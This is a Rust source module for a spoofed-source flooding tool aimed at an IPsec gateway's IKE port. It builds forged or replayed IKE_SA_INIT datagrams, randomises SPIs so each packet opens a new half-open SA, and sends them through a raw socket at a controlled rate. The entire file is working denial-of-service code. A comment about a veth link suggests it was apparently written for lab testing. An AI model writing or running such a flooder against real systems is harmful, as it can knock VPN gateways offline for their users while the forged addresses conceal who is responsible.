//! Sending forged datagrams at a fixed rate (a token bucket refilled from the clock, drained
//! in `sendmmsg` batches).

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use rand::Rng;

use crate::forge::Forge;
use crate::packet::{udp_packets, PacketError};
use crate::raw::{RawSender, BATCH_MAX};

/// MTU of the link the packets leave by (veth default).
pub const LINK_MTU: usize = 1500;

/// What each datagram carries.
#[derive(Debug, Clone)]
pub enum Source {
    /// A forged IKE_SA_INIT, built once; the SPI is patched per packet.
    Forge(Forge),
    /// A captured datagram, sent as it is (its SPI is patched only with [`SpiMode::Random`]).
    Replay(Vec<u8>),
}

/// The initiator SPI of each packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpiMode {
    /// A fresh random SPI per packet (every packet a new half-open SA).
    Random,
    /// The same SPI in every packet.
    Fixed(u64),
    /// Whatever the message already carries (replays).
    Keep,
}

/// A flood: who it claims to come from, where it goes, what and how fast.
#[derive(Debug, Clone)]
pub struct Flood {
    /// Forged source address.
    pub src: Ipv4Addr,
    /// First forged source port; with `ports` > 1 the port cycles through
    /// `src_port .. src_port + ports`.
    pub src_port: u16,
    /// How many source ports to cycle through (at least 1).
    pub ports: u16,
    /// Destination (the gateway's IKE port).
    pub dst: SocketAddrV4,
    /// The datagrams.
    pub source: Source,
    /// Initiator SPIs.
    pub spi: SpiMode,
    /// Datagrams per second (0: as fast as possible).
    pub rate: u32,
    /// Stop after this long ...
    pub duration: Duration,
    /// ... or after this many datagrams, whichever comes first (None: no count limit).
    pub count: Option<u64>,
}

/// What a flood did.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FloodReport {
    /// Datagrams sent (each may be several IP fragments).
    pub datagrams: u64,
    /// IP packets sent.
    pub packets: u64,
    /// Send errors (e.g. ENOBUFS), the datagram not sent.
    pub errors: u64,
    /// Wall-clock time of the flood.
    pub elapsed: Duration,
}

impl FloodReport {
    /// Datagrams per second achieved.
    pub fn rate(&self) -> f64 {
        self.datagrams as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Why a flood could not run.
#[derive(Debug, thiserror::Error)]
pub enum FloodError {
    /// The raw socket could not be opened (root / CAP_NET_RAW needed).
    #[error("cannot open a raw IPv4 socket (needs root or CAP_NET_RAW): {0}")]
    Socket(#[source] io::Error),
    /// The datagram cannot be built.
    #[error(transparent)]
    Packet(#[from] PacketError),
}

/// Run `flood` until its duration or count is reached, or `stop` is set.
pub fn run(flood: &Flood, stop: &AtomicBool) -> Result<FloodReport, FloodError> {
    let sender = RawSender::open().map_err(FloodError::Socket)?;
    let mut rng = rand::rng();
    let template = match &flood.source {
        Source::Forge(f) => f.build(rng.random(), &mut rng),
        Source::Replay(d) => d.clone(),
    };
    let ports = u32::from(flood.ports.max(1));
    let start = Instant::now();
    let mut report = FloodReport::default();
    let mut ip_id: u16 = rng.random();
    let mut message = template.clone();
    let mut batch: Vec<Vec<u8>> = Vec::with_capacity(BATCH_MAX);
    let mut datagrams_in_batch: Vec<usize> = Vec::with_capacity(BATCH_MAX);
    loop {
        let elapsed = start.elapsed();
        if elapsed >= flood.duration
            || stop.load(Ordering::Relaxed)
            || flood.count.is_some_and(|c| report.datagrams >= c)
        {
            break;
        }
        // Token bucket: what the rate allows by now, minus what went out already.
        let allowed = if flood.rate == 0 {
            u64::MAX
        } else {
            (elapsed.as_secs_f64() * f64::from(flood.rate)) as u64 + 1
        };
        let mut due = allowed.saturating_sub(report.datagrams);
        if let Some(c) = flood.count {
            due = due.min(c - report.datagrams);
        }
        if due == 0 {
            std::thread::sleep(Duration::from_micros(500));
            continue;
        }
        batch.clear();
        datagrams_in_batch.clear();
        let mut planned = 0u64;
        while planned < due && batch.len() < BATCH_MAX {
            match flood.spi {
                SpiMode::Random => message[..8].copy_from_slice(&rng.random::<u64>().to_be_bytes()),
                SpiMode::Fixed(s) => message[..8].copy_from_slice(&s.to_be_bytes()),
                SpiMode::Keep => {}
            }
            let n = report.datagrams + planned;
            let port = flood.src_port.wrapping_add((n % u64::from(ports)) as u16);
            ip_id = ip_id.wrapping_add(1);
            let pkts = udp_packets(
                SocketAddrV4::new(flood.src, port),
                flood.dst,
                ip_id,
                &message,
                LINK_MTU,
            )?;
            if batch.len() + pkts.len() > BATCH_MAX && !batch.is_empty() {
                break;
            }
            datagrams_in_batch.push(pkts.len());
            batch.extend(pkts);
            planned += 1;
        }
        let mut sent_packets = 0usize;
        while sent_packets < batch.len() {
            match sender.send_batch(&batch[sent_packets..], flood.dst.ip().to_owned()) {
                Ok(0) => break,
                Ok(n) => sent_packets += n,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(_) => {
                    report.errors += 1;
                    sent_packets += 1;
                }
            }
        }
        report.packets += sent_packets as u64;
        report.datagrams += planned;
    }
    report.elapsed = start.elapsed();
    Ok(report)
}
